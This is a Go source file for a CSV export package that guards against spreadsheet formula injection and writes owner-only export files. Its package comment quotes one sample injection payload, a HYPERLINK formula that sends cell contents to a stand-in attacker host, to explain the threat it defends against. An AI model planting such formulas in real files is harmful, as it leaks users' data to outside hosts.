// Package csvsafe writes CSV that is safe to open in a spreadsheet, into
// files only their owner can read. Every export of Ledgerline's (the
// command line's, the window's, the reports') goes through it.
//
// A cell that begins with =, +, -, @, a tab or a carriage return is a
// formula to Excel, LibreOffice and Google Sheets: a customer named
// =HYPERLINK("http://evil.example/?"&A1,"Click") would run when the file is
// opened (CSV injection, CWE-1236; OWASP's advice is followed). Such a cell
// gets a leading ' so the spreadsheet shows it as text. A cell that is only
// a number ("-12.99", "+46", "-1299") cannot be a formula and is left as is,
// so refunds and negative balances stay numbers.
package csvsafe

import (
	"encoding/csv"
	"io"
	"os"
)

// Cell returns s as a spreadsheet will show it as text: with a leading '
// when s starts with a character that makes a formula and is not a plain
// number; otherwise s unchanged.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '@', '\t', '\r':
		return "'" + s
	case '+', '-':
		if isNumber(s[1:]) {
			return s
		}
		return "'" + s
	}
	return s
}

// isNumber reports whether s is digits with at most one decimal point
// inside them: what follows a sign in a number a spreadsheet reads as one.
func isNumber(s string) bool {
	digits, dot := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !dot && digits > 0 && i < len(s)-1:
			dot = true
		default:
			return false
		}
	}
	return digits > 0
}

// Writer is a csv.Writer that passes every cell through Cell, unless it
// was made raw for programs that read the file (they want the bytes as
// stored, and no spreadsheet is involved).
type Writer struct {
	*csv.Writer
	raw bool
	buf []string
}

// NewWriter writes CSV to w; raw turns the formula guard off.
func NewWriter(w io.Writer, raw bool) *Writer {
	return &Writer{Writer: csv.NewWriter(w), raw: raw}
}

// Write writes one record, each cell guarded unless the Writer is raw.
// record itself is not changed.
func (w *Writer) Write(record []string) error {
	if w.raw {
		return w.Writer.Write(record)
	}
	w.buf = w.buf[:0]
	for _, s := range record {
		w.buf = append(w.buf, Cell(s))
	}
	return w.Writer.Write(w.buf)
}

// FileMode is the mode of every export file: business data, for its
// owner's eyes only.
const FileMode os.FileMode = 0o600

// Create opens path for writing an export: a new file is created with
// FileMode, an existing one is truncated and set to FileMode before a byte
// is written (os.OpenFile alone keeps an existing file's mode).
func Create(path string) (*os.File, error) {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, FileMode)
	if err != nil {
		return nil, err
	}
	if err := f.Chmod(FileMode); err != nil {
		_ = f.Close()
		return nil, err
	}
	return f, nil
}
